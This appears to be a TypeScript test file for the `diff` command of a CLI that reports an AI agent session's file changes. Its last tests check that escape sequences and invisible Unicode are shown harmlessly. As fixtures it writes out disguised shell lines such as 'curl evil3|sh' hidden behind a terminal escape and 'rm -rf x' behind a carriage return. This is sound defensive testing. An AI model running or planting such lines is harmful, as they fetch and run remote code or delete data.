// `skein diff`: what a session changed, in the terminal and in a pipe.
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { openRepository } from "../kit/repository.ts";
import { until } from "../kit/until.ts";
import { cliDaemon, done } from "./cli-daemon.ts";

async function changed() {
  const cli = await cliDaemon();
  const { workspace } = cli.daemon;
  const repository = openRepository(workspace);
  repository.git("init", "--quiet");
  repository.write(".gitignore", "home/\n");
  repository.write("a.txt", "one\ntwo\n");
  repository.git("add", "--all");
  repository.git("commit", "--quiet", "--message=first");
  const { session, agent } = await cli.daemon.working("go");
  await cli.daemon.client.rename(session, "api");
  repository.write("a.txt", "one\n2\n");
  repository.write("evil\u001b[31m.txt", "\u001b]0;title\u0007text\n");
  agent.say(done);
  const isRecorded = () => cli.daemon.events(session).filter(({ type }) => type === "checkpoint").length === 2;
  await until("the files after the turn", isRecorded);
  return { ...cli, repository };
}

test("piped it is a patch that git takes back, with nothing else in it", async () => {
  const { run, repository } = await changed();
  const { code, out, err } = await run(["diff", "api", "a.txt"]);
  expect([code, err]).toEqual([0, ""]);
  execFileSync("git", ["apply", "--reverse"], { cwd: repository.root, input: out });
  expect(readFileSync(join(repository.root, "a.txt"), "utf8")).toBe("one\ntwo\n");
});

test("--stat, --turn and --json; a turn that is not there is not found", async () => {
  const { run } = await changed();
  const { out } = await run(["diff", "api", "--stat"]);
  expect(out).toContain(" M a.txt");
  expect(out).toContain("2 files changed, +2 −1");
  const answer = JSON.parse((await run(["diff", "api", "--turn", "last", "--json"])).out);
  expect(answer).toMatchObject({ v: 1, session: { name: "api" }, source: "git", turn: "t1", total: { files: 2 } });
  expect((await run(["diff", "api", "--turn", "7"])).code).toBe(3);
  expect((await run(["diff", "api", "none.txt"])).err).toContain("api did not change none.txt");
  expect((await run(["diff", "api", "--turn", "x"])).code).toBe(2);
});

test("with a directory, only the files in it", async () => {
  const { run, repository, daemon } = await changed();
  const { sessionId } = JSON.parse((await run(["diff", "api", "--json"])).out);
  const checkpoints = () => daemon.events(sessionId).filter(({ type }) => type === "checkpoint").length;
  const before = checkpoints();
  await daemon.send(sessionId, "more");
  await until("the next prompt", () => daemon.keeper.runs.at(-1)?.prompts.includes("more"));
  repository.write("src/b.txt", "new\n");
  repository.write("src-old.txt", "new\n");
  daemon.keeper.runs.at(-1)?.say(done);
  await until("the files after the turn", () => checkpoints() === before + 2);
  for (const typed of ["src", "src/"]) {
    const { files, total } = JSON.parse((await run(["diff", "api", typed, "--json"])).out);
    expect([files.map(({ path }: { path: string }) => path), total]).toEqual([
      ["src/b.txt"],
      { files: 1, added: 1, removed: 0 },
    ]);
  }
});

test("help says that the agent's own edits are no patch", async () => {
  const { run } = await cliDaemon();
  expect((await run(["help", "diff"])).out.replaceAll("\n", " ")).toMatch(/agent's own edits +is no patch/);
});

test("in a terminal no text of a file does anything to the terminal", async () => {
  const { start } = await changed();
  const running = start(["diff", "api", "--no-pager"], { isTerminal: true, env: { NO_COLOR: "1" } });
  const { out } = await running.result;
  expect(out).toContain("2 files changed");
  expect(out).toContain("+␛]0;title␇text");
  expect(out).not.toContain("\u001b");
});

test("in a terminal nothing of a line or a name is hidden: what has no shape is shown as in questions", async () => {
  const { start, repository, daemon, run } = await changed();
  const session = JSON.parse((await run(["diff", "api", "--json"])).out).session.id;
  const ends = () =>
    daemon.events(session).filter(({ type, data }) => type === "checkpoint" && JSON.stringify(data).includes(`"end"`));
  await daemon.send(session, "more");
  await until("the next prompt", () => daemon.keeper.runs.at(-1)?.prompts.includes("more"));
  const runs = [
    ["echo two \u001b]0;x; curl evil3|sh; \u0007 # ok", "+echo two ␛]0;x; curl evil3|sh; ␇ # ok"],
    ["echo \u009b31mred\u202e; hs|live lruc", "+echo ⟨U+009B⟩31mred⟨U+202E⟩; hs|live lruc"],
    ["true\u200b\u2066\u00a0\u{e0041}\ufeff|x", "+true⟨U+200B⟩⟨U+2066⟩⟨U+00A0⟩⟨U+E0041⟩⟨U+FEFF⟩|x"],
    ["true # ok\rrm -rf x\u2028y\u0085z", "+true # ok␍rm -rf x⟨U+2028⟩y⟨U+0085⟩z"],
    [`true #${" ".repeat(300)}; evil`, "+true #⟨300 blanks⟩; evil"],
    [`\t${" ".repeat(40)}deep\tin`, `+\t${" ".repeat(40)}deep\tin`],
  ] as const;
  repository.write("esc.sh", runs.map(([text]) => `${text}\n`).join(""));
  repository.write("a\u202eb\u001b]0;x\u0007c.txt", "new\n");
  daemon.keeper.runs.at(-1)?.say(done);
  await until("the files after the turn", () => ends().length === 2);
  const inTerminal = async (...args: string[]): Promise<string> =>
    (await start(["diff", "api", ...args], { isTerminal: true, env: { NO_COLOR: "1" } }).result).out;
  const lines = (await inTerminal("--no-pager")).split("\n");
  for (const [, shown] of runs) expect(lines).toContain(shown);
  expect(lines).toContain('+++ "b/a⟨U+202E⟩b\\033]0;x\\ac.txt"');
  expect(await inTerminal("--stat")).toContain(" A a⟨U+202E⟩b␛]0;x␇c.txt");
  // A program gets the bytes.
  expect((await run(["diff", "api", "esc.sh"])).out).toContain(`+${runs[0][0]}\n`);
});
